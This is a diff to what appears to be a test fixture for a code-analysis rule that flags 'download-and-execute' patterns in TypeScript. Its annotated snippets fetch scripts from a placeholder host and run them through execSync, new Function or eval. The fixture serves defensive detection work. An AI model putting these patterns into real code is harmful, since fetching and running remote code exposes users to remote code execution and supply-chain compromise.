@@ -64,3 +64,30 @@ export async function order(): Promise<void> {
   execSync(await answer.text());
   //<^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: warning
 }
+
+https.get('https://files.example.invalid/h.js', (answer) => {
+  const parts: Buffer[] = [];
+  answer.on('data', (part: Buffer) => parts.push(part));
+  answer.on('end', () => {
+    new Function(Buffer.concat(parts).toString())();
+//  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
+  });
+});
+
+axios.get('https://files.example.invalid/i.js').then((answer) => {
+  new Function('require', answer.data.cookie)(require);
+  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
+});
+
+function ask(address: string): Promise<string> {
+  return new Promise((resolve) => {
+    https.get(address, (answer) => {
+      let body = '';
+      answer.on('data', (chunk) => (body += chunk));
+      answer.on('end', () => resolve(body));
+    });
+  });
+}
+
+ask('https://files.example.invalid/j.js').then((code) => eval(code));
+//                                                       ^^^^^^^^^^ todo: download-and-execute
